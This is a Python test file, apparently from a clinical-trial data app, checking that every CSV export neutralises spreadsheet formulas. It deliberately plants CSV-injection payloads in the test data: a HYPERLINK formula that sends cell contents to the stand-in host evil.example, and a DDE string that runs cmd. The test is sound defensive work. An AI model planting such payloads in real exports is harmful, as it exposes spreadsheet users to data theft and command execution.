"""Every CSV the app serves, pages and API alike, writes no cell a spreadsheet would run as a formula.

The routes are found from the app itself (any route whose path ends in .csv or that declares
text/csv), so an export added later is covered without being named here."""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from cellbench import audit, spreadsheet
from cellbench.app import iter_routes
from cellbench.models import SealedAllocation, SealedList, User

from .conftest import actor_of
from .test_study_unblinding import lock_form, unblind_form
from .trialworld import STUDY, enrol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CALC = "+1+cmd|' /C calc'!A0"
# Who downloads each export (the audit trail by QA, the sealed lists and the unblinded events by
# the statistician, the blinded events by the investigator).
READER = {"/audit.csv": "anna", "/study-data/": "stella", "/api/v1/study-data/": "stella", "/trial-export/": "ida",
          "/api/v1/trial-export/": "ida"}


def csv_routes(app) -> list[str]:
    paths = []
    for route in iter_routes(app.routes):
        declared = str(getattr(route, "responses", {}) or {})
        if route.path.endswith(".csv") or ("text/csv" in declared and not route.path.endswith((".xml", ".pdf"))):
            paths.append(route.path)
    return sorted(set(paths))


@pytest.fixture
def poisoned(db, trial_world, as_):
    """The trial world with a formula in every kind of text an export carries: a participant number
    (imported lists are checked, but as if one had got through), a user's full name, a recorded new
    value and a reason; then locked and unblinded, so that every export is open to someone."""
    enrol(db, "-2+3", "SCR-F1")
    with db.write() as s:
        sealed_list = s.scalars(select(SealedList).where(SealedList.kind == "randomisation")).one()
        s.add(SealedAllocation(list_id=sealed_list.id, position=999, block=99, participant_number="-2+3",
                               arm="active"))
        s.scalars(select(User).where(User.username == "frida")).one().full_name = HYPERLINK
    with db.write() as s:
        audit.record(s, actor_of(db, "frida"), "scan station named", "participant", "-2+3",
                     field="station", new=CALC, reason="-2+3")
    assert lock_form(as_("sara")).status_code == 303
    assert unblind_form(as_("sara")).status_code == 303
    return trial_world


def test_the_app_serves_the_csv_exports_this_test_knows_how_to_download(app):
    routes = csv_routes(app)
    assert "/audit.csv" in routes and len(routes) >= 7
    assert all(any(path.startswith(prefix) for prefix in READER) for path in routes), routes


def test_no_cell_of_any_csv_export_starts_like_a_formula(db, poisoned, as_, app):
    seen_poison = set()
    for path in csv_routes(app):
        reader = next(who for prefix, who in READER.items() if path.startswith(prefix))
        response = as_(reader).get(path.replace("{study}", STUDY))
        assert response.status_code == 200, (path, response.text[:300])
        assert response.headers["content-type"].startswith("text/csv"), path
        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
        assert [c for c in cells if c.startswith(FORMULA_STARTS)] == [], path
        seen_poison |= {c for c in cells if c in ("'" + HYPERLINK, "'" + CALC, "'-2+3")}
    # The poison did reach the exports, neutralised: the test is not passing on empty files.
    assert seen_poison == {"'" + HYPERLINK, "'" + CALC, "'-2+3"}


def test_numbers_the_code_writes_stay_numbers_and_text_that_looks_like_one_is_neutralised():
    assert spreadsheet.cell(-150) == "-150" and spreadsheet.cell(-2.5) == "-2.5"
    assert spreadsheet.cell("-150") == "'-150"  # typed by a person: text, so neutralised
    assert spreadsheet.cell(float("-inf")) == "'-inf" and spreadsheet.cell(True) == "True"
    assert spreadsheet.cell("\rcmd") == "'\rcmd" and spreadsheet.cell("@SUM(A1)") == "'@SUM(A1)"
